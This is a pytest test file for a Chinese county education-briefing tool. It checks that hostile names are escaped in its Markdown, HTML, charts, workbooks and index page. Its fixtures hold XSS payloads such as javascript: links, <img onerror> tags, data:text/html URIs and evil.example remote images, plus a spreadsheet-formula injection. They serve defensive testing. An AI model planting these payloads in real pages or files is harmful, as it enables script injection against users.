"""Every string from the data is escaped for where it goes (转义): Markdown, HTML tables, charts, workbooks,
the batch index page, and the HTML page checked for script and external addresses.

County, school, file and plan item names come from analysts' files and may be hostile: a name such as
``[点我](javascript:alert(1))`` must not become a link, ``![x](http://…)`` not a remote image, ``$x^2$`` not
math (nor stop a chart), ``=HYPERLINK(…)`` not a formula.  The end-to-end tests run the real briefing
notebook twice (one hostile county, one county whose county-level table has a bad value) and read the page,
the index and the manifest a batch would write.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import matplotlib
import openpyxl
import pandas as pd
import pytest
from matplotlib.figure import Figure
from matplotlib.text import Text

from _glyphs import no_glyph_problems
from junyun_lib.cli import main
from junyun_lib.planning.scenario import Scenario
from junyun_lib.report import briefing, charts, plan_report
from junyun_lib.report.html_export import dangerous_references, exporter, external_references, script_references
from junyun_lib.report.overview import index_html
from junyun_lib.report.plan_report import md_code, md_text
from junyun_lib.workspace import Workspace

REPO = Path(__file__).resolve().parents[1]
YEAR = 2024

# the county name (county.toml `name` and the 县区 column): a link, a remote image, a bare address, math,
# emphasis and a tag in one
COUNTY = "乡宁县[点我](javascript:alert(1))![x](http://evil.example/x.png) http://evil.example/a $x^2$ _a_ <b>"
# school names given to primary schools of 乡宁县 (math: `学校$` and `a$b$c$` odd, `$\frac$` not valid TeX)
SCHOOLS = ["[点我](javascript:alert(1))小学", "![x](http://evil.example/x.png)", "见http://evil.example/a校",
           "学校$", "a$b$c$小学", "$x^2$小学", "$\\frac$小学", "下划_线\\反斜杠", "<img src=x onerror=alert(1)>"]
# appended to every plan item (plan.csv)
ITEM_TAIL = " <b>&amp;</b>[x](javascript:alert(1))$y$"
# what the workbook must keep as text
FORMULAS = ['=HYPERLINK("http://x?d="&B2,"x")', "+1", "-2", "@SUM(A1)"]

# strings a Markdown renderer would turn into markup if they were not escaped
HOSTILE = [
    "[点我](javascript:alert(1))", "![x](http://evil.example/x.png)", "见 http://evil.example/a 学校",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "$\\alpha$", "a$b$c$", "学校$", "$$x$$",
    "\\(x\\) \\[y\\] \\begin{equation}z\\end{equation}", "_a_ *b* **c** `d` ~~e~~", "# 标题", "1. 列表", "- 列表",
    "+ 列表", "> 引用", "a | b | c", "&lt; &amp; &#58;", "<http://x.example>", "x@y.example",
    "data:text/html,<b>x</b>", "VBScript:msgbox(1)", "[a]: http://e.example/", "[^1]", "\\", "a\\", "[ ] 待办",
    "<!-- 注释 -->", "&#106;avascript:alert(1)", "进贤县第一小学", "a\n\n# 新段落\n===", "\tcode",
    "[x](<javascript:alert(1)>)", "[x][r]\n\n[r]: javascript:alert(1)",
]
# URL attributes (a value there is loaded or followed)
URL_ATTRS = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href"}


class Page(HTMLParser):
    """The tags (with attributes) and the visible text of an HTML page or fragment."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.parts: list[str] = []
        self._skip = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("style", "script", "title"):
            self._skip += 1

    def handle_endtag(self, tag):
        if tag in ("style", "script", "title"):
            self._skip -= 1

    def handle_data(self, data):
        if not self._skip:
            self.parts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.parts)


def render(markdown: str) -> str:
    """Markdown to HTML as the briefing page renders a Markdown output (the page exporter's filter)."""
    return exporter().markdown2html({}, markdown)


def one_line(text: str) -> str:
    """What a name looks like on one line (md_text turns line breaks and tabs into spaces, drops them at the
    ends)."""
    return re.sub(r"[\r\n\t\v\f]+", " ", text).strip()


def assert_inert(html: str, *, code_ok: bool = False) -> Page:
    """No link, image, markup the data could have made, script or external address."""
    page = Page(html)
    allowed = {"p", "strong", "h1", "ul", "li", "blockquote"} | ({"code"} if code_ok else set())
    assert {t for t, _ in page.tags} <= allowed, page.tags
    assert script_references(html) == [] and external_references(html) == []
    return page


# --------------------------------------------------------------------------------------- data folders
def _county_folder(data: Path, slug: str) -> Path:
    folder = data / "raw" / slug
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def _school_book(slug: str, county: str | None, names: list[str], kind: str = "小学") -> openpyxl.Workbook:
    """The sample school table of ``slug`` with the 县区 column set to ``county`` and the first primary
    schools renamed to ``names`` (stored as text, never as formulas)."""
    book = openpyxl.load_workbook(REPO / "data/raw" / slug / f"schools_{YEAR}.xlsx")   # keeps 数据说明
    sheet = book["学校数据"]
    header = [c.value for c in sheet[1]]
    name_col, county_col, type_col = (header.index(h) + 1 for h in ("学校名称", "县区", "学校类型"))
    rows = [r for r in range(2, sheet.max_row + 1) if sheet.cell(r, type_col).value == kind]
    assert len(rows) >= len(names)
    for r in range(2, sheet.max_row + 1):
        if county is not None:
            sheet.cell(r, county_col).value = county
    for r, name in zip(rows, names):
        cell = sheet.cell(r, name_col)
        cell.value = name
        cell.data_type = "s"          # '=HYPERLINK(…)' typed as text in Excel, not a formula
    return book


def hostile_county(data: Path) -> Path:
    """乡宁县 renamed to COUNTY (county.toml and 县区), primary schools renamed to SCHOOLS, every plan item
    with ITEM_TAIL."""
    folder = _county_folder(data, "xiangning")
    toml = (REPO / "data/raw/xiangning/county.toml").read_text(encoding="utf-8")
    assert 'name = "乡宁县"' in toml
    # a JSON string is a valid TOML basic string
    (folder / "county.toml").write_text(toml.replace('name = "乡宁县"', f"name = {json.dumps(COUNTY, ensure_ascii=False)}"),
                                        encoding="utf-8")
    _school_book("xiangning", COUNTY, SCHOOLS).save(folder / f"schools_{YEAR}.xlsx")
    shutil.copy(REPO / "data/raw/xiangning" / f"county_indicators_{YEAR}.csv", folder)
    rows = list(csv.reader(io.StringIO((REPO / "data/raw/xiangning/plan.csv").read_text(encoding="utf-8"))))
    for row in rows[1:]:
        row[1] += ITEM_TAIL
    with open(folder / "plan.csv", "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return folder / f"schools_{YEAR}.xlsx"


BAD_VALUE = "<b>八十九</b>"
BAD_ROW = 4                    # the row of the county-level table (as a text editor shows it) made bad


def county_with_bad_table(data: Path) -> Path:
    """进贤县 with a county-level table whose row 4 holds a value that is not a number."""
    folder = _county_folder(data, "jinxian")
    for name in ("county.toml", f"schools_{YEAR}.xlsx"):
        shutil.copy(REPO / "data/raw/jinxian" / name, folder)
    lines = (REPO / "data/raw/jinxian" / f"county_indicators_{YEAR}.csv").read_text(encoding="utf-8").splitlines()
    cells = next(csv.reader([lines[BAD_ROW - 1]]))
    cells[2] = BAD_VALUE
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(cells)
    lines[BAD_ROW - 1] = buf.getvalue()
    (folder / f"county_indicators_{YEAR}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder / f"schools_{YEAR}.xlsx"


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory) -> Path:
    data = tmp_path_factory.mktemp("escaping") / "data"
    Workspace(data).ingest([hostile_county(data)])
    return data


@pytest.fixture(scope="module")
def b(data_dir):
    return Workspace(data_dir).briefing(COUNTY, YEAR)


# ------------------------------------------------------------------------------------ md_text, md_code
@pytest.mark.parametrize("value", HOSTILE)
def test_md_text_is_inert_and_shows_the_value(value):
    html = render(f"前文 **{md_text(value)}** 后文 [ok]")
    page = assert_inert(html)
    assert page.text.strip() == f"前文 {one_line(value)} 后文 [ok]"
    assert not re.search(r"https?:", md_text(value)), "no address left for an autolink"


@pytest.mark.parametrize("value", HOSTILE)
def test_md_text_is_inert_as_a_heading_and_a_list_item(value):
    page = assert_inert(render(f"# {md_text(value)} 简报\n\n- 来源：{md_text(value)}"))
    assert [t for t, _ in page.tags] == ["h1", "ul", "li"]
    assert f"{one_line(value).strip()} 简报" in page.text and f"来源：{one_line(value)}" in page.text


@pytest.mark.parametrize("value", ["schools_2024.xlsx", "a`b``c.xlsx", "[x](javascript:alert(1)).xlsx",
                                   "<b>学校</b>.csv", "http://evil.example/a.xlsx", "学校$.xlsx", "a\\b.csv"])
def test_md_code_shows_file_names_literally(value):
    page = assert_inert(render(f"- 数据来源：{md_code(value)}（乡宁县）"), code_ok=True)
    assert page.text.strip() == f"数据来源：{value}（乡宁县）"


def test_md_text_backslash_escapes_markdown_punctuation():
    assert md_text("\\`*_{}[]()#+-.!|<>~") == "&#92;\\`\\*\\_\\{\\}\\[\\]\\(\\)\\#\\+\\-\\.\\!\\|&lt;&gt;\\~"
    assert md_text("javascript:x data:y vbscript:z http://w") == \
        "javascript&#58;x data&#58;y vbscript&#58;z http&#58;\\/\\/w"


# ------------------------------------------------------------------------------ briefing Markdown
MARKDOWN_PIECES = ["headline", "scorecard_text", "cv_limits_text", "school_rule_text", "cheapest_text",
                   "roadmap_text", "plan_text", "footer"]


@pytest.mark.parametrize("name", MARKDOWN_PIECES)
def test_briefing_markdown_is_inert(b, name):
    text = getattr(briefing, name)(b)
    html = render(text)
    page = Page(html)
    assert not [t for t, _ in page.tags if t in ("a", "img", "script", "iframe", "em", "b")], page.tags
    assert script_references(html) == [] and external_references(html) == []
    if name in ("headline", "footer"):
        assert COUNTY in page.text


def test_headline_shows_the_county_as_written(b):
    page = Page(render(briefing.headline(b)))
    h1 = page.text.strip().splitlines()[0]
    assert h1 == f"{COUNTY} {YEAR}年 义务教育优质均衡发展 资源配置评估简报"


def test_veto_names_are_inert(b):
    vetoes = b.card.vetoes.copy()
    vetoes.loc[vetoes.index[0], ["name", "applies"]] = ["[否决](javascript:alert(1)) http://evil.example $v$", True]
    card = dataclasses.replace(b.card, vetoes=vetoes)
    html = render(briefing.scorecard_text(dataclasses.replace(b, card=card)))
    page = Page(html)
    assert "[否决](javascript:alert(1)) http://evil.example $v$" in page.text
    assert not [t for t, _ in page.tags if t in ("a", "img", "em")] and dangerous_references(html) == []


def test_trend_sentence_is_markdown_without_data(b):
    shown = briefing.trend(b)                 # one year: a sentence
    assert "仅有 2024 年一年的数据" in shown.data


def test_plan_summary_markdown_is_inert(b):
    md = plan_report.summary_markdown(b.plan, YEAR).data
    html = render(md)
    page = Page(html)
    assert {t for t, _ in page.tags} <= {"p", "strong"}, page.tags
    assert dangerous_references(html) == []
    assert page.text.startswith(f"{COUNTY} 规划进度（plan.csv）")
    assert ITEM_TAIL.strip() in page.text


# -------------------------------------------------------------------------- tables: escaped once
def _cells(html: str) -> list[str]:
    return [c.strip() for c in Page(re.sub(r"</t[dh]>", "\\g<0>\x00", html)).text.split("\x00")]


def test_plan_tables_hold_raw_text_and_are_escaped_once(b):
    items = [t for t in b.plan.table["item"].unique()]
    assert all(t.endswith(ITEM_TAIL) for t in items)
    for frame in (plan_report.year_table(b.plan, YEAR), plan_report.projection_table(b.plan), briefing.plan_table(b)):
        assert len(frame) and set(frame["项目"]) <= set(items)       # raw, not &lt;b&gt;
        html = briefing.table(frame).data
        assert "<b>" not in html and "&amp;lt;" not in html and "&amp;amp;amp;" not in html
        cells = _cells(html)
        assert set(frame["项目"]) <= set(cells), "each item shows exactly as written"


def test_school_names_in_tables_are_escaped_once(b):
    frames = [briefing.failing_schools(b), briefing.causes_table(b), briefing.scorecard_table(b),
              briefing.guarantee_failures(b), briefing.excluded_table(b)]
    html = "".join(briefing.table(f).data for f in frames)
    assert "<img" not in html and "&amp;lt;" not in html
    cells = _cells(html)
    # long lists are summarised (ten schools, the guarantee checks one row each with the schools furthest off
    # named in one cell), so a name is a whole cell or part of one — shown exactly as written either way
    shown = [s for s in SCHOOLS if s in cells or any(s in c for c in cells)]
    assert "<img src=x onerror=alert(1)>" in shown and len(shown) >= 3, shown
    for frame in (briefing.failing_schools(b, top=None), briefing.guarantee_details(b)):
        whole = _cells(briefing.table(frame).data)
        assert set(frame["学校"]) <= set(whole)
    # causes_table lists the schools in one cell; none of its text may be escaped twice
    assert not any("&lt;" in c or "&amp;" in c for c in cells)


# --------------------------------------------------------------------------------------------- charts
def shown_texts(fig: Figure) -> list[str]:
    """What each text of a figure displays; fails if any would be read as mathtext."""
    out = []
    for t in fig.findobj(Text):
        s, math = t._preprocess_math(t.get_text())
        assert math is False, f"read as math: {t.get_text()!r}"
        out.append(s)
    return out


def test_premise_raw_names_break_or_turn_into_math():
    """Without the escape, matplotlib would read these names as math (and stop at invalid TeX)."""
    fig = Figure()
    text = fig.text(0.1, 0.5, "$x^2$小学")
    assert text._preprocess_math(text.get_text())[1] is True
    fig.text(0.1, 0.2, "$\\frac$小学")
    with pytest.raises(ValueError):
        fig.savefig(io.BytesIO(), format="png")


@pytest.fixture(scope="module")
def two_years(b):
    earlier = dataclasses.replace(b.result, year=YEAR - 1, indicators=b.result.indicators.assign(year=YEAR - 1))
    return {YEAR - 1: earlier, YEAR: b.result}


def _hostile_charts(b, two_years):
    r = b.result
    yield "cv_chart", charts.cv_chart(r)
    yield "attainment_chart", charts.attainment_chart(r)
    yield "meets_heatmap", charts.meets_heatmap(r, "primary", all_schools=True, name_width=40)
    yield "meets_heatmap_junior", charts.meets_heatmap(r, "junior")
    yield "distributions_grid", charts.distributions_grid(r, "primary")
    yield "distribution_chart", charts.distribution_chart(r, "primary", r.standard.codes[0])
    yield "cv_trend_chart", charts.cv_trend_chart(two_years)
    yield "plan_status_chart", charts.plan_status_chart(b.plan)
    yield "plan_items_chart", charts.plan_items_chart(b.plan)


def test_charts_show_hostile_names_literally(b, two_years):
    charts.set_style()
    with matplotlib.rc_context(), no_glyph_problems():
        shown = {}
        for name, fig in _hostile_charts(b, two_years):
            charts.figure_to_png_bytes(fig)            # draws every text: no ValueError from mathtext
            shown[name] = shown_texts(fig)
    for name in ("cv_chart", "attainment_chart", "meets_heatmap", "distributions_grid", "cv_trend_chart",
                 "plan_status_chart", "plan_items_chart"):
        assert any(COUNTY in s for s in shown[name]), name
    assert f"{COUNTY} {YEAR}年 各指标学校达标程度（每点一所学校）" in shown["attainment_chart"]
    for school in SCHOOLS:
        assert school in shown["meets_heatmap"], school
    items = {s.replace("\n", "") for s in shown["plan_items_chart"]}
    assert any(s.endswith(ITEM_TAIL.strip()) for s in items), items


def test_chart_alt_text_is_the_title_as_shown(b):
    img = charts.image(charts.attainment_chart(b.result))
    assert img.metadata["alt"] == f"{COUNTY} {YEAR}年 各指标学校达标程度（每点一所学校）"


@pytest.mark.parametrize("text", ["$", "学校$", "a$b$c$", "$x^2$", "\\$", "\\\\$x$", "a\\", "_\\_", "$\\frac$"])
def test_literal_shows_any_text_exactly(text):
    t = Text(0, 0, charts.literal(text))
    assert t._preprocess_math(t.get_text()) == (text, False)


# ------------------------------------------------------------------------------------------ workbooks
def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _column(path: Path, sheet: str, header: str) -> list:
    ws = openpyxl.load_workbook(path)[sheet]
    col = [c.value for c in ws[1]].index(header) + 1
    return [ws.cell(r, col).value for r in range(2, ws.max_row + 1)]


def test_evaluate_excel_keeps_formula_like_names_as_text(tmp_path):
    data, out = tmp_path / "data", tmp_path / "out"
    folder = _county_folder(data, "xiangning")
    shutil.copy(REPO / "data/raw/xiangning/county.toml", folder)
    _school_book("xiangning", None, FORMULAS).save(folder / f"schools_{YEAR}.xlsx")
    assert _formula_cells(folder / f"schools_{YEAR}.xlsx") == [], "premise: the input holds text"
    target = out / "result.xlsx"
    assert main(["evaluate", str(folder / f"schools_{YEAR}.xlsx"), "--excel", str(target),
                 "--data-dir", str(data), "--out", str(out)]) == 0
    assert _formula_cells(target) == []
    names = set(_column(target, "学校指标", "学校名称"))
    assert set(FORMULAS) <= names, "the names read back exactly"


def test_scenario_workbook_keeps_formula_like_names_as_text(tmp_path):
    data, out = tmp_path / "data", tmp_path / "out"
    folder = _county_folder(data, "xiangning")
    shutil.copy(REPO / "data/raw/xiangning/county.toml", folder)
    _school_book("xiangning", None, FORMULAS).save(folder / f"schools_{YEAR}.xlsx")
    ws = Workspace(data, out)
    ws.ingest([folder / f"schools_{YEAR}.xlsx"])
    scenario = Scenario(ws.evaluation("乡宁县"), "乡宁县", YEAR)
    school = scenario.before.parts[scenario.before.parts["school_name"] == FORMULAS[0]].iloc[0]
    scenario.add(school["school_id"], "key_teachers", 2)
    path = ws.write_workbook(out / "scenario.xlsx", scenario.sheets())
    assert _formula_cells(path) == []
    assert set(FORMULAS) <= set(_column(path, "学校", "学校名称"))
    assert _column(path, "补充方案", "学校名称") == [FORMULAS[0]]


# ---------------------------------------------------------------------------------- index page unit
def test_index_lists_each_located_problem_on_its_own_line():
    error = ("输入数据有 1 处错误 (1 error(s) in the input):\n"
             "  - county_indicators_2024.csv 第4行 列「数值」 值「<b>八十九</b>」：数值应为数字")
    page = index_html(pd.DataFrame(columns=["县区", "年度"]), YEAR, {}, [{"county": "<i>坏县</i>", "error": error}],
                      False, {})
    assert "white-space: pre-wrap" in page
    assert ("<div class=\"reason\">输入数据有 1 处错误 (1 error(s) in the input):\n"
            "  - county_indicators_2024.csv 第4行 列「数值」 值「&lt;b&gt;八十九&lt;/b&gt;」：数值应为数字</div>") in page
    assert "<i>" not in page and "<b>" not in page


def test_index_links_only_to_pages_beside_it():
    table = pd.DataFrame([{"县区": "甲县", "年度": YEAR}, {"县区": "乙县", "年度": YEAR}, {"县区": "丙县", "年度": YEAR}])
    page = index_html(table, YEAR, {"甲县": "jiaxian.html", "乙县": " javascript:alert(1)", "丙县": "//evil.example/x"},
                      [], False, {})
    assert 'href="jiaxian.html"' in page and dangerous_references(page) == []
    assert "乙县" in page and "丙县" in page


# ------------------------------------------------------------------------------ script references
@pytest.mark.parametrize("html, expected", [
    ('<a href="javascript:alert(1)">x</a>', ["javascript:alert(1)"]),
    ('<a href="  JavaScript:alert(1)">x</a>', ["JavaScript:alert(1)"]),
    ('<a href="&#106;avascript:alert(1)">x</a>', ["javascript:alert(1)"]),
    ('<a href="java&#x09;script:alert(1)">x</a>', ["java\tscript:alert(1)"]),
    ('<a href="vbscript:msgbox(1)">x</a>', ["vbscript:msgbox(1)"]),
    ('<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', ["data:text/html,<script>alert(1)</script>"]),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', ["data:text/html;base64,PHNjcmlwdD4="]),
    ('<object data="data:image/svg+xml;base64,PHN2Zz4="></object>', ["data:image/svg+xml;base64,PHN2Zz4="]),
    ('<form action="javascript:x"></form>', ["javascript:x"]),
    ('<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', ["javascript:alert(1)"]),
])
def test_script_references_catches(html, expected):
    assert script_references(html) == expected
    assert dangerous_references(html) == expected


@pytest.mark.parametrize("html", [
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',                       # an image runs no script
    "<style>.x { background: url(data:image/svg+xml;base64,PHN2Zz4=) }</style>",
    '<a href="#cell-3">跳转</a>', '<a href="jinxian.html">进贤县</a>',
    "<p>javascript:alert(1) 只是文字</p>", '<img alt="[点我](javascript:alert(1))" src="data:image/png;base64,AA">',
])
def test_script_references_ignores(html):
    assert script_references(html) == []
    assert dangerous_references(html) == []


def test_dangerous_references_are_external_and_script_in_page_order():
    html = ('<a href="javascript:a()">1</a><img src="https://x.example/i.png"><a href="b.html">2</a>'
            '<iframe src="data:text/html,x"></iframe>')
    assert dangerous_references(html) == ["javascript:a()", "https://x.example/i.png", "data:text/html,x"]
    assert external_references(html) == ["https://x.example/i.png"]


# ------------------------------------------------------------------- the real notebook, end to end
@pytest.fixture(scope="module")
def batch(data_dir):
    """The hostile county's briefing and a county failing on its county-level table, run like the batch
    does (run_task in this process, then the manifest and the index page)."""
    from junyun_lib.runner.batch import manifest_runs, run_task, tasks_for, update_manifest, write_index

    Workspace(data_dir).ingest([county_with_bad_table(data_dir)])
    ws = Workspace(data_dir, data_dir.parent / "outputs")
    tasks = {t.slug: t for t in tasks_for(ws, years={YEAR})}
    assert set(tasks) == {"xiangning", "jinxian"} and tasks["xiangning"].county == COUNTY
    rows = {slug: run_task(task, warm=False) for slug, task in tasks.items()}
    update_manifest(ws, rows.values())
    (index,) = write_index(ws, [YEAR])
    return {"rows": rows, "ws": ws, "index": index.read_text(encoding="utf-8"),
            "manifest": {r["slug"]: r for r in manifest_runs(ws)},
            "page": ws.briefing_path("xiangning", YEAR).read_text(encoding="utf-8")}


def test_hostile_page_has_no_script_or_external_address(batch):
    assert batch["rows"]["xiangning"]["status"] == "ok", batch["rows"]["xiangning"]["error"]
    page = batch["page"]
    assert external_references(page) == [] and script_references(page) == [] and dangerous_references(page) == []
    tags = Page(page).tags
    for tag, attrs in tags:
        for name, value in attrs.items():
            cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
            assert not cleaned.startswith(("javascript:", "vbscript:", "data:text/html")), (tag, name, value)
            if name in URL_ATTRS:
                assert "javascript:" not in cleaned and "evil.example" not in cleaned, (tag, name, value)
    imgs = [attrs for tag, attrs in tags if tag == "img"]
    assert imgs and all(a["src"].startswith("data:image/png;base64,") for a in imgs)
    assert page.count("<img") == len(imgs)
    # the only links: the page's own Word copy and workbook beside it, by name (issue 28 item 1), none from data
    assert [attrs.get("href") for tag, attrs in tags if tag == "a"] == ["xiangning.docx", "xiangning.xlsx"]
    assert not [t for t, _ in tags if t in ("script", "iframe", "object", "embed")]


def test_hostile_names_show_as_text_on_the_page(batch):
    page = Page(batch["page"])
    text = page.text
    assert f"{COUNTY} {YEAR}年 义务教育优质均衡发展 资源配置评估简报" in text      # headline (Markdown)
    assert f"数据来源：{COUNTY} {YEAR} 年" in text                                # footer (Markdown)
    assert "schools_2024.xlsx" not in text and "2024年学校数据表" in text           # no file names on a page
    shown = [s for s in SCHOOLS if s in text]                                   # tables
    assert "<img src=x onerror=alert(1)>" in shown and len(shown) >= 3, shown
    assert ITEM_TAIL.strip() in text                                            # plan table, escaped once
    assert "&lt;" not in text and "&amp;amp;" not in text, "nothing is escaped twice"
    alts = [a["alt"] for t, a in page.tags if t == "img"]
    assert f"{COUNTY} {YEAR}年 各指标学校达标程度（每点一所学校）" in alts            # chart title, literal
    assert f"<title>{COUNTY.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')} {YEAR}年" \
        in batch["page"]


def test_hostile_notebook_has_no_errors_or_missing_glyphs(batch):
    nb = json.loads(Path(batch["rows"]["xiangning"]["notebook"]).read_text(encoding="utf-8"))
    outputs = [o for c in nb["cells"] for o in c.get("outputs", [])]
    assert not [o for o in outputs if o.get("output_type") == "error"]
    text = json.dumps(outputs, ensure_ascii=False)
    assert "Glyph" not in text and "missing from font" not in text


def test_index_links_the_hostile_county_as_text(batch):
    index = batch["index"]
    assert dangerous_references(index) == []
    page = Page(index)
    links = [a["href"] for t, a in page.tags if t == "a"]
    # the national summary's link to the province's group, stays on the page
    assert [h for h in links if h.startswith("#")] == ["#sheng-0"]
    # the page, the Word copy, the workbook and the multi-year page (file names of the slug, never the
    # county's name)
    assert [h for h in links if not h.startswith("#")] == ["xiangning.html", "xiangning.html", "xiangning.docx",
                                                         "xiangning.xlsx", "../history/xiangning.html"]
    assert COUNTY in page.text and "<b>" not in index


def test_failed_county_shows_the_located_problem_in_index_and_manifest(batch):
    row = batch["manifest"]["jinxian"]
    assert row["status"] == "failed"
    for piece in (f"county_indicators_{YEAR}.csv", f"第{BAD_ROW}行", "列「数值」", f"值「{BAD_VALUE}」"):
        assert piece in row["error"], (piece, row["error"])
    failed = Page(batch["index"].split("运行失败")[1]).text
    lines = [line.strip() for line in failed.splitlines() if line.strip()]
    located = next(line for line in lines if f"county_indicators_{YEAR}.csv" in line)
    assert f"第{BAD_ROW}行" in located and f"值「{BAD_VALUE}」" in located and "列「数值」" in located
    head = next(line for line in lines if "输入数据有 1 处错误" in line)
    assert head.startswith("进贤县：") and head != located, "the county, the head, then a line per problem"
    assert BAD_VALUE not in batch["index"], "the value is escaped in the page"
    assert "white-space: pre-wrap" in batch["index"]
